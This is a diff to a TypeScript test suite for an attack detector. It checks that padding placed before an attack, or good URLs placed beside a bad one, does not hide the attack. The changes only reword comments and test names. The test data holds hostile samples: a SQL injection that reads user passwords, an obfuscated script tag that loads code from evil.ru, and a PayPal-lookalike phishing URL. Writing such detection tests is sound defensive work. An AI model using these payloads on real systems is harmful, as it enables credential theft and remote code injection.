@@ -6,7 +6,7 @@ const SQL = "' UNION SELECT user,pass FROM users--";
 const SHELL_SCRIPT =
   '<script>document.write(unescape("%3Cscript src=%22http://evil.ru/x.js%22%3E%3C/script%3E"))</script>';
 
-/** An attack and what may stand before it without a change of its meaning. */
+/** An attack, and padding before it that does not change its meaning. */
 const CASES: readonly (readonly [InputType, before: string, padding: string, attack: string])[] = [
   ['request', 'GET /?a=', 'a', `&id=1${SQL}`],
   ['request', 'GET /?a=', '%2561', `&id=1${SQL}`],
@@ -31,7 +31,7 @@ const CASES: readonly (readonly [InputType, before: string, padding: string, att
   ['url', '', 'https://www.google.com/\n', 'http://paypa1-secure-login.xyz/webscr?cmd=login'],
 ];
 
-describe('what stands before an attack does not hide it', () => {
+describe('content before an attack does not hide it', () => {
   test.each(CASES)('%s %p with %p', (inputType, before, padding, attack) => {
     for (const kib of [0, 1, 9, 60]) {
       const content = before + padding.repeat((kib * KIB) / padding.length) + attack;
@@ -39,7 +39,7 @@ describe('what stands before an attack does not hide it', () => {
     }
   });
 
-  test('nor do good addresses beside a bad one', () => {
+  test('nor do good addresses next to a bad one', () => {
     const alone = analyze({ inputType: 'url', content: 'http://paypa1-secure-login.xyz/' });
     const beside = analyze({
       inputType: 'url',
